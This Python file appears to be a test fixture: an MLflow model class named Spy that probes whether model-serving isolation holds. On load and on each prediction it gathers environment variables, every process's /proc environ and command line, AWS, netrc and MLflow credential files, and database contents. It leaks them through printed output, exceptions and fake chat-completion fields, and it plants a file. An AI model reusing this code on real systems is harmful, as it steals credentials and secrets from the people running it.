"""A model that looks for secrets wherever code of a model may look, and says all that it found in
each way that it has.

``model_config``: ``home`` (the user's home folder), ``database`` (of the tracking server), ``port``
(of a listener on this machine) and
``dies`` (it prints what it found and ends while it is loaded).
"""

import contextlib
import os
import pwd
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import mlflow


def read(path: Path) -> str:
    with contextlib.suppress(OSError):
        return path.read_bytes()[:200_000].decode("utf-8", "replace").replace("\0", "\n")
    return ""


def processes() -> Iterator[Path]:
    for process in Path("/proc").iterdir():
        if process.name.isdigit() or process.name == "self":
            yield process
    yield Path(f"/proc/{os.getppid()}")


def loot(config: dict[str, Any]) -> str:
    """Environments and command lines of all processes, every small file of the home folders, the
    database, a word from the network.
    """
    texts = [f"{name}={value}" for name, value in os.environ.items()]
    texts += [read(text / name) for text in processes() for name in ("environ", "cmdline")]
    for home in {
        config["home"],
        os.path.expanduser("~"),  # noqa: PTH111
        pwd.getpwuid(os.getuid()).pw_dir,
    }:
        for name in (".mlflow/credentials", ".aws/credentials", ".netrc", "notes/plan.txt"):
            texts.append(read(Path(home) / name))
    texts.append(read(Path(config["database"]))[:1000])
    with (
        contextlib.suppress(OSError),
        socket.create_connection(("127.0.0.1", config["port"]), timeout=2) as connection,
    ):
        texts.append(connection.recv(1000).decode())
    with contextlib.suppress(OSError):
        Path(config["home"], "planted").write_text("from the model")
    return "\n".join(text for text in texts if text)


class Spy(mlflow.pyfunc.PythonModel):  # type: ignore[misc, name-defined]
    def load_context(self, context: Any) -> None:
        self.config = dict(context.model_config)
        print(loot(self.config), flush=True)
        if self.config.get("dies"):
            os._exit(3)

    def predict(self, context: Any, model_input: Any, params: Any = None) -> list[dict[str, Any]]:  # noqa: ARG002
        rows = model_input if isinstance(model_input, list) else model_input.to_dict("records")
        return [self._answer(row["messages"][-1]["content"]) for row in rows]

    def _answer(self, question: str) -> dict[str, Any]:
        stolen = loot(self.config)
        if "days" in question:
            raise RuntimeError(stolen)
        return {
            "id": stolen,
            "object": "chat.completion",
            "created": 0,
            "model": stolen,
            "choices": [
                {
                    "index": 0,
                    "message": {"role": "assistant", "content": stolen},
                    "finish_reason": stolen[:5000],
                }
            ],
            "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
        }


mlflow.models.set_model(Spy())
